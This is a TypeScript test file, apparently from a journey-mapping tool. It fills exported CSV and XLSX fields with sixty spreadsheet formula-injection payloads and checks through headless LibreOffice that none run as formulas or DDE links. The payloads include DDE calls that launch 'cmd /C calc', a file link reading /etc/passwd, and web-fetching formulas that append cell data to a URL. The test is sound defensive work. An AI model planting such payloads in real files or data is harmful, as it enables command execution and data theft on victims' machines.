import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { renderCsv } from '../../../../journey/formats/csv/render-csv.ts'
import { renderXlsx } from '../../../../journey/formats/xlsx/render-xlsx.ts'
import type { JourneyMap } from '../../../../journey/model/schema.ts'
import { sampleMap } from '../../../helpers/sample-map.ts'

const calls = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org/?"&A1,"open")',
  'IMPORTXML("https://example.org","//a")',
  'WEBSERVICE("https://example.org")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)',
  "'file:///etc/passwd'#$passwd.A1",
  'INDIRECT("A1")',
  'NOW()',
]
const beginnings = ['=', '+', '-', '@', ' =', '\t=', '\n=', "'=", '＝', '"="&=', '=\u00a0', ';=']
/** Sixty texts that some spreadsheet somewhere runs. */
const payloads = Array.from(
  { length: 60 },
  (_, index) => `${beginnings[index % beginnings.length]}${calls[index % calls.length]}`,
)

function loaded(): JourneyMap {
  const map = sampleMap('en')
  let next = 0
  const text = () => payloads[next++ % payloads.length] ?? ''
  return {
    ...map,
    stages: map.stages.map((one) => ({ ...one, title: text(), notes: text() })),
    lanes: map.lanes.map((one) => ({ ...one, title: text() })),
    personas: map.personas.map((one) => ({ ...one, title: text(), notes: text() })),
    outcomes: map.outcomes.map((one) => ({ ...one, title: text() })),
    cards: map.cards.map((one) => ({ ...one, title: text(), notes: text(), owner: text(), channels: [text()] })),
    links: map.links.map((one) => ({ ...one, label: text(), kind: text() })),
    frictions: map.frictions.map((one) => ({ ...one, title: text(), notes: text(), owner: text() })),
    metrics: map.metrics.map((one) => ({
      ...one,
      title: text(),
      notes: text(),
      source: text(),
      unit: text(),
      period: text(),
    })),
    fixes: map.fixes.map((one) => ({ ...one, title: text(), notes: text(), owner: text() })),
  }
}

const hasOffice = spawnSync('localc', ['--version']).status === 0

test.skipIf(!hasOffice)(
  'sixty formulas in every text field of a map are none in LibreOffice, from the workbook and from CSV',
  { timeout: 180_000 },
  () => {
    const folder = mkdtempSync(join(tmpdir(), 'jejak-formulas-'))
    try {
      const map = loaded()
      const csv = (sheet: 'touchpoints' | 'frictions' | 'metrics') =>
        renderCsv(map, sheet, { language: 'en', notation: 'standard' })
      const files = {
        'map.xlsx': renderXlsx(map, 'en'),
        'touchpoints.csv': csv('touchpoints'),
        'frictions.csv': csv('frictions'),
        'metrics.csv': csv('metrics'),
      }
      for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name), bytes)
      const home = `-env:UserInstallation=file://${join(folder, 'home')}`
      const convert = ['--headless', home, '--convert-to', 'fods', '--outdir', folder]
      const paths = Object.keys(files).map((name) => join(folder, name))
      const { status, stderr } = spawnSync('soffice', [...convert, ...paths], { encoding: 'utf8', timeout: 170_000 })
      expect([status, stderr.includes('rror:')]).toEqual([0, false])
      for (const name of Object.keys(files)) {
        const sheet = readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8')
        expect(sheet).toContain('cmd|')
        expect(sheet.match(/table:formula="[^"]*"/g) ?? []).toEqual([])
        expect(sheet.match(/<table:dde-link/g) ?? []).toEqual([])
      }
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  },
)
